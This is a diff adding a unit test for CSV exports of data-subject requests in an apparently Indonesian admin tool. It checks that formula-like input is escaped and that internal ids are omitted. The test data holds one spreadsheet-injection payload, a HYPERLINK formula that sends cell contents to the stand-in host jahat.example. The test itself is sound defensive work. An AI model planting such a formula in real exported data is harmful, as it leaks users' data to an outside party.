@@ -211,6 +211,41 @@ describe('each list exports the columns an officer reads', () => {
     expect(column(table, 'Waktu')).toEqual(['2026-12-04 07:00 WIB']);
   });
 
+  it('data requests: the applicant-typed details and the decision defused, WIB deadline, no ids or export link', () => {
+    const table = csv('dataSubjectRequests', [
+      {
+        id: 'dsr-1',
+        number: 'PDP-2026-000007',
+        kind: 'CORRECTION',
+        status: 'IN_PROGRESS',
+        via: 'SELF_SERVICE',
+        details: '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")',
+        accountId: 'acc-1',
+        account: { id: 'acc-1', username: 's•••a' },
+        assignee: { id: 'st-1', username: 'helpdesk.ani' },
+        createdAt: '2026-12-01T03:00:00Z',
+        dueAt: '2026-12-04T17:00:00Z',
+        overdue: false,
+        reason: '-dipenuhi sebagian',
+        export: { status: 'WAITING', expiresAt: '2026-12-05T00:00:00Z' },
+        __typename: 'DataSubjectRequest',
+      },
+    ]);
+    expect(table[0].slice(0, 3)).toEqual(['Nomor', 'Status', 'Jenis hak']);
+    expect(column(table, 'Uraian')).toEqual(['\'=HYPERLINK("http://jahat.example/?d="&A1,"Klik")']);
+    expect(column(table, 'Keputusan')).toEqual(["'-dipenuhi sebagian"]);
+    expect(column(table, 'Jenis hak')).toEqual(['Perbaikan data']);
+    expect(column(table, 'Diajukan lewat')).toEqual(['Pemohon sendiri']);
+    expect(column(table, 'Akun')).toEqual(['s•••a']);
+    expect(column(table, 'Petugas')).toEqual(['helpdesk.ani']);
+    expect(column(table, 'Batas waktu')).toEqual(['2026-12-05 00:00 WIB']);
+    expect(column(table, 'Diajukan')).toEqual(['2026-12-01 10:00 WIB']);
+    expect(column(table, 'Terlambat')).toEqual(['Tidak']);
+    const flat = table.flat().join('|');
+    for (const hidden of ['dsr-1', 'acc-1', 'st-1', 'WAITING', 'DataSubjectRequest'])
+      expect(flat).not.toContain(hidden);
+  });
+
   it('every export spec has a translated header for every column in both languages', async () => {
     for (const locale of ['id', 'en']) {
       await i18nProvider.changeLocale(locale);
